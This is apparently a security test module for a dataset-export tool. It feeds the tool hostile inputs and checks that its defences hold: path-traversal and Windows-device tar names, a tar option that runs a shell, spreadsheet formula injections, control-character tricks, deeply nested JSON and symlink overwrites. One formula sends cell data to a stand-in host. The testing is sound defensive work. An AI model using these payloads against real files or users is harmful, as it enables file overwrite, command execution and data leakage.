"""Exports: keys that would leave the folder they are unpacked to, hide rows or run; folders that are not ours."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path, PureWindowsPath
from types import SimpleNamespace
from typing import Any
from unittest.mock import patch

import webdataset

import nextloom.pipelines.export as exports
from engine import write_pictures
from exporting import exported, published
from hostile.attack import Attack, Outcome, patched
from nextloom.cli import out
from nextloom.curation.sources.jsontext import dumps
from nextloom.errors import UserError
from nextloom.pipelines.export import Chosen, Options, hugging_face, keys, names, place
from nextloom.pipelines.export import webdataset as tars
from nextloom.pipelines.export.place import Place
from nextloom.pipelines.export.rows import Sample

PNG = b"\x89PNG\r\n\x1a\n"


def _shard(folder: Path, kind: Any, samples: list[Sample]) -> Path:
    """A shard of rows with these keys, as an export writes it."""
    chosen = SimpleNamespace(fields={}, keys=lambda: [sample.key for sample in samples])
    writer = kind(chosen)
    with Place(folder / "export", {}) as held, held.shard("shard") as (sink, finish):
        writer.begin(sink)
        for sample in samples:
            writer.add(sample)
        writer.end()
        finish()
    return folder / "export" / "shard"


def _of(*wanted: str) -> list[Sample]:
    return [Sample(number, key, None, None, "/x/y", raw=PNG) for number, key in enumerate(wanted)]


# ---- keys as names of members

Effect = Callable[[Path, Path, list[Sample]], bool]


def _escapes(folder: Path, tar: Path, samples: list[Sample]) -> bool:
    """Unpacked by a tool that trusts names, something lies outside of where it was unpacked to."""
    target = folder / "a" / "b" / "unpacked"
    target.mkdir(parents=True)
    with tarfile.open(tar) as opened:
        opened.extractall(target, filter="fully_trusted")
    ours = (target, folder / "export")
    files = [path for path in folder.rglob("*") if path.is_file()]
    return any(not any(path.is_relative_to(own) for own in ours) for path in files)


def _loses_rows(folder: Path, tar: Path, samples: list[Sample]) -> bool:
    """The library sees fewer samples than there are rows."""
    return len(list(webdataset.WebDataset(str(tar), shardshuffle=False, empty_check=False))) < len(samples)


def _cannot_be_unpacked(folder: Path, tar: Path, samples: list[Sample]) -> bool:
    try:
        with tarfile.open(tar) as opened:
            opened.extractall(folder / "unpacked", filter="fully_trusted")
    except (OSError, RecursionError):
        return True
    return len(list((folder / "unpacked").rglob("*.png"))) < len(samples)


def _members(tar: Path) -> list[str]:
    with tarfile.open(tar) as opened:
        return opened.getnames()


def _two_lines(folder: Path, tar: Path, samples: list[Sample]) -> bool:
    found = _members(tar)
    return len("\n".join(found).splitlines()) > len(found)


def _windows(folder: Path, tar: Path, samples: list[Sample]) -> bool:
    """On Windows it is a device, or leaves the folder."""
    paths = [PureWindowsPath(name) for name in _members(tar)]
    reserved = any(PureWindowsPath(part).is_reserved() for path in paths for part in path.parts)
    return reserved or any(path.anchor or ".." in path.parts for path in paths)


def _option(folder: Path, tar: Path, samples: list[Sample]) -> bool:
    return any(name.startswith("-") for name in _members(tar))


def _reads_otherwise(folder: Path, tar: Path, samples: list[Sample]) -> bool:
    return any(char in name for name in _members(tar) for char in "\u202e\u2067\u200b\x1b\x9b\r")


def _member(wanted: tuple[str, ...], effect: Effect) -> Callable[[Path], Outcome]:
    def strike(folder: Path) -> Outcome:
        samples = _of(*(key.replace("{folder}", str(folder)) for key in wanted))
        try:
            tar = _shard(folder, tars.WebDatasetFormat, samples)
            found = [name.rpartition(".")[0] for name in _members(tar) if name.endswith(".png")]
        except ValueError as error:
            return Outcome(True, f"the export ends: {error}")
        return Outcome(effect(folder, tar, samples), f"written as {(found or ['nothing'])[0][:60]!r}")

    return strike


MEMBERS: dict[str, tuple[tuple[str, ...], Effect]] = {
    "..": (("../evil",), _escapes),
    ".. in the middle": (("x/cat", "x/../../evil"), _escapes),
    ".. again and again": (("../" * 2 + "evil",), _escapes),
    "../ behind a dot": (("./../evil.png",), _escapes),
    "an absolute name": (("{folder}/evil",), _escapes),
    "an absolute name behind slashes": (("//{folder}/evil",), _escapes),
    "NUL in two keys": (("cat\0one", "cat\0two"), _loses_rows),
    "dots that make one sample of two": (("cat.one", "cat.two"), _loses_rows),
    "one stem, two suffixes": (("cat.jpg", "cat.png"), _loses_rows),
    "a name that another one becomes": (("cat.jpg", "cat.png", "cat%2Ejpg", "cat%2Epng.png"), _loses_rows),
    "a hidden name": ((".htaccess",), _loses_rows),
    "a hidden name in a folder": (("a/.env", "a/.git"), _loses_rows),
    "no name at all": (("",), _loses_rows),
    "a folder without a name in it": (("a/", "a/.x"), _loses_rows),
    "only dots": (("..",), _loses_rows),
    "5,000 characters": (("x" * 5000,), _cannot_be_unpacked),
    "300 characters of three bytes": (("语" * 300,), _cannot_be_unpacked),
    "1,500 folders": (("a/" * 1500 + "b",), _cannot_be_unpacked),
    "a file that is a folder of another key": (("a.png/b", "a"), _cannot_be_unpacked),
    "a newline": (("cat\nevil.sh",), _two_lines),
    "a line separator": (("cat\u2028evil",), _two_lines),
    "a device of Windows": (("con",), _windows),
    "a device with a suffix": (("nul.jpg",), _windows),
    "a device in a folder": (("a/LPT1/b",), _windows),
    "a device behind a blank": (("aux ",), _windows),
    "backslashes": (("..\\..\\evil",), _windows),
    "a drive": (("C:\\evil",), _windows),
    "a share": (("\\\\host\\share\\evil",), _windows),
    "an option": (("-rf",), _option),
    "an option in full": (("--checkpoint-action=exec=sh",), _option),
    "right-to-left override": (("photo\u202egnp",), _reads_otherwise),
    "an isolate": (("a\u2067b\u2069",), _reads_otherwise),
    "a zero-width space": (("ad\u200bmin",), _reads_otherwise),
    "an escape sequence": (("a\x1b[2Jb",), _reads_otherwise),
    "an 8-bit CSI": (("a\x9b31m",), _reads_otherwise),
    "a carriage return": (("a\rb",), _reads_otherwise),
}
KEYS = [
    Attack(
        "export",
        f"a key in a tar: {name}",
        "written as",
        _member(wanted, effect),
        lambda: patched(names.Names, "of", lambda self, key: key),
    )
    for name, (wanted, effect) in MEMBERS.items()
]

# ---- keys as file names in a Hugging Face dataset


def _image_path(key: str) -> Callable[[Path], Outcome]:
    def strike(folder: Path) -> Outcome:
        key_ = key.replace("{folder}", str(folder))
        writer = hugging_face.HuggingFaceFormat(SimpleNamespace(fields={}))  # type: ignore[arg-type]
        path = writer.image(_of(key_)[0])["path"]
        landed = os.path.normpath(os.path.join(folder / "saved", path))  # what a user who saves the images does
        return Outcome(os.path.dirname(landed) != str(folder / "saved"), f"named {path[:60]}")

    return strike


def _plain_paths() -> contextlib.AbstractContextManager:
    return patch.multiple(hugging_face, escaped=lambda text, key: key, stem=lambda key: key)


PATHS = [
    Attack(
        "export",
        f"an image's path in a Hugging Face dataset: {name}",
        "named",
        _image_path(key),
        _plain_paths,
    )
    for name, key in (
        ("..", "../evil"),
        ("an absolute path", "{folder}/evil"),
        (".. inside", "a/../../../evil"),
    )
]

# ---- texts as cells

FORMULAS = {
    "=": "=cmd|' /C calc'!A0",
    "= in a link": '=HYPERLINK("http://evil.example/?"&A1,"more")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a tab before it": "\t=1+1",
    "a carriage return before it": "\r=1+1",
    "a blank before it": " =1+1",
    "a newline before it": "\n=1+1",
    "a wide =": "＝1+1",
    "a wide @": "＠SUM(1)",
    "a wide -": "－1+1",
}


def _cells(text: str, role: str) -> Callable[[Path], Outcome]:
    def strike(folder: Path) -> Outcome:
        sample = Sample(0, text if role == "key" else "k", text if role == "caption" else None, None, "/x")
        shard = _shard(folder, keys.KeysFormat, [sample])
        with shard.open(newline="", encoding="utf-8") as file:
            cells = [cell.strip() for row in csv.reader(file) for cell in row]
        return Outcome(any(cell[:1] in tuple("=+-@＝＠－＋") for cell in cells if cell), "behind a '")

    return strike


def _controls(text: str) -> Callable[[Path], Outcome]:
    def strike(folder: Path) -> Outcome:
        data = _shard(folder, keys.KeysFormat, [Sample(0, text, None, None, "/x")]).read_text(encoding="utf-8")
        return Outcome(any(char in data for char in "\0\x1b\x9b\u202e"), "percent-encoded")

    return strike


def _plain_cells() -> contextlib.AbstractContextManager:
    return patch.multiple(keys, cell=lambda value: value, read_cell=lambda text: text)


CELLS = [
    *(
        Attack("export", f"a formula in a {role} of a CSV: {name}", "behind", _cells(text, role), _plain_cells)
        for role in ("key", "caption")
        for name, text in FORMULAS.items()
    ),
    *(
        Attack("export", f"in a cell of a CSV: {name}", "percent-encoded", _controls(text), _plain_cells)
        for name, text in {
            "NUL": "a\0b",
            "an escape sequence": "a\x1b]0;x\x07",
            "an 8-bit CSI": "\x9b2J",
            "right-to-left override": "a\u202eb",
        }.items()
    ),
]

# ---- sidecars


def _sidecar(text: str) -> Callable[[Path], Outcome]:
    def strike(folder: Path) -> Outcome:
        sample = Sample(0, "k", None, text, "/x", raw=PNG)
        try:
            tar = _shard(folder, tars.WebDatasetFormat, [sample])
        except (ValueError, RecursionError) as error:
            return Outcome(True, f"the export ends: {type(error).__name__}")
        with tarfile.open(tar) as opened:
            raw = opened.extractfile("k.json").read()  # type: ignore[union-attr]
        told = json.loads(raw, parse_constant=lambda name: "no JSON")
        return Outcome(told["key"] != "k" or b"NaN" in raw, "kept as text" if told["sidecar"] == text else "kept")

    return strike


def _trusting() -> contextlib.AbstractContextManager:
    """A sidecar that is parsed, spread over the sample's own fields, and written as Python writes it."""

    def told(self: Any, sample: Sample) -> str:
        data = json.loads(sample.sidecar or "{}")
        return json.dumps({"key": sample.key, "sidecar": data} | (data if isinstance(data, dict) else {}))

    return patched(tars.WebDatasetFormat, "_told", told)


def _uncaught() -> contextlib.AbstractContextManager:
    """As the product writes it, without a second try where it is nested too deeply."""

    def told(self: Any, sample: Sample) -> str:
        return dumps({"key": sample.key, "sidecar": json.loads(sample.sidecar or "")})

    return patched(tars.WebDatasetFormat, "_told", told)


SIDECARS = [
    Attack("export", f"a sidecar: {name}", "kept", _sidecar(text), _uncaught if "nested" in name else _trusting)
    for name, text in {
        "nested 900 times": '{"a":' * 900 + "1" + "}" * 900,
        "nested 100,000 times": "[" * 100_000 + "]" * 100_000,
        "no JSON": '{"a": ',
        "another row's key": '{"key": "admin"}',
        "NaN": '{"a": NaN}',
    }.items()
]

# ---- the folder


def _release(folder: Path) -> Any:
    write_pictures(folder / "data" / "pics", 2)
    return published(folder / "data", {"op": "files", "path": "pics"})


@contextlib.contextmanager
def _refused(told: list[str]) -> Iterator[None]:
    try:
        yield
    except UserError as error:
        told.append(error.what)


def _into_a_link(folder: Path) -> Outcome:
    (folder / "victim").mkdir()
    (folder / "out").symlink_to(folder / "victim")
    told: list[str] = []
    with _refused(told):
        exported(_release(folder), folder / "out", "parquet")
    return Outcome(any((folder / "victim").iterdir()), f"refused: {told}")


def _own_folder_is_a_link(name: str) -> Callable[[Path], Outcome]:
    def strike(folder: Path) -> Outcome:
        (folder / "victim").mkdir()
        (folder / "out" / ".nextloom").mkdir(parents=True)
        (folder / "out" / name).rmdir() if name == ".nextloom" else None
        (folder / "out" / name).symlink_to(folder / "victim")
        told: list[str] = []
        with _refused(told):
            exported(_release(folder), folder / "out", "parquet")
        return Outcome(any((folder / "victim").iterdir()), f"refused: {told}")

    return strike


def _following() -> contextlib.AbstractContextManager:
    stack = contextlib.ExitStack()
    stack.enter_context(patched(place, "_FOLDER", place._FOLDER & ~os.O_NOFOLLOW))
    stack.enter_context(patched(os.path, "islink", lambda path: False))
    return stack


def _shard_is_a_link(folder: Path) -> Outcome:
    release = _release(folder)
    (folder / "victim").write_text("mine")
    out_folder = exported(release, folder / "out", "parquet")
    (out_folder / "part-000000.parquet").unlink()
    (out_folder / "part-000000.parquet").symlink_to(folder / "victim")
    exported(release, out_folder, "parquet")
    changed = (folder / "victim").read_bytes() != b"mine"
    return Outcome(changed, "the link was replaced by the shard")


@contextlib.contextmanager
def _in_place(self: Place, name: str) -> Iterator[Any]:
    """A shard that is written under its name, as a plain program would."""
    with open(os.path.join(self.path, name), "wb") as file:
        yield place.Sink(file), file.flush


def _foreign(content: dict[str, str]) -> Callable[[Path], Outcome]:
    def strike(folder: Path) -> Outcome:
        for name, text in content.items():
            (folder / "out" / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / "out" / name).write_text(text)
        told: list[str] = []
        with _refused(told):
            exported(_release(folder), folder / "out", "hf")
        same = all((folder / "out" / name).read_bytes() == text.encode() for name, text in content.items())
        added = {path.name for path in (folder / "out").iterdir()} != {name.partition("/")[0] for name in content}
        return Outcome(not same or added, f"refused: {told}")

    return strike


def _through_the_command(where: str, victim: str) -> Callable[[Path], Outcome]:
    def strike(folder: Path) -> Outcome:
        _release(folder)
        (folder / "r.yaml").write_text(
            "dataset: toy\nsource: {op: files, path: pics}\nreleases:\n  all: {rows: source}\n"
        )
        (folder / "data" / "link").symlink_to(folder / "data" / "pics")
        (folder / "data" / "x").mkdir()
        before = set((folder / victim).rglob("*"))
        told: list[str] = []
        with _refused(told), contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
            out.export(str(folder / "r.yaml"), str(folder / where), "keys", root=str(folder / "data"))
        return Outcome(set((folder / victim).rglob("*")) != before, f"refused: {told}")

    return strike


def _tampered(folder: Path) -> Outcome:
    """A record that names a file elsewhere as its shard, so that rows pass for written."""
    release = _release(folder)
    (folder / "victim").write_text("mine")
    path = exported(release, folder / "out", "parquet")
    record = path / ".nextloom/shards/000000.json"
    data = json.loads(record.read_text()) | {"name": "../victim", "size": 4}
    record.write_text(json.dumps(data))
    (path / "part-000000.parquet").unlink()
    (path / ".nextloom/export.json").unlink()
    told: list[str] = []
    with _refused(told):
        exports.export(Chosen.of(release), path, Options("parquet"))
    return Outcome((path / ".nextloom/export.json").exists(), f"refused: {told}")


def _believing() -> contextlib.AbstractContextManager:
    return patched(exports.job, "_record", lambda stored, *_: exports.job.Record(**stored))


FOLDERS = [
    Attack("export", "the folder is a link to another one", "refused", _into_a_link, _following),
    *(
        Attack("export", f"{name} in the folder is a link", "refused", _own_folder_is_a_link(name), _following)
        for name in (".nextloom", ".nextloom/shards")
    ),
    Attack(
        "export",
        "a shard became a link to a file elsewhere",
        "replaced",
        _shard_is_a_link,
        lambda: patched(Place, "shard", _in_place),
    ),
    *(
        Attack(
            "export",
            f"a folder of somebody else's: {name}",
            "refused",
            _foreign(content),
            lambda: patched(Place, "_claimed", lambda self: True),
        )
        for name, content in {
            "notes": {"thesis.txt": "mine"},
            "a dataset of that name": {"train-000000.parquet": "mine", "README.md": "mine"},
            "a hidden file": {".bashrc": "mine"},
            "an export whose claim is lost": {"README.md": "mine", ".nextloom/export.json": "{}"},
        }.items()
    ),
    *(
        Attack(
            "export",
            f"a folder inside of {name}",
            "refused",
            _through_the_command(where, victim),
            lambda: patched(exports, "check_apart", lambda *_, **__: None),
        )
        for name, where, victim in (
            ("the dataset", "data/datasets/toy/columns", "data/datasets"),
            ("the dataset, spelled with ..", "data/x/../datasets/out", "data/datasets"),
            ("the source", "data/pics/out", "data/pics"),
            ("the source, through a link", "data/link/out", "data/pics"),
        )
    ),
    Attack("export", "a record names another file as its shard", "refused", _tampered, _believing),
]

ATTACKS = [*KEYS, *PATHS, *CELLS, *SIDECARS, *FOLDERS]
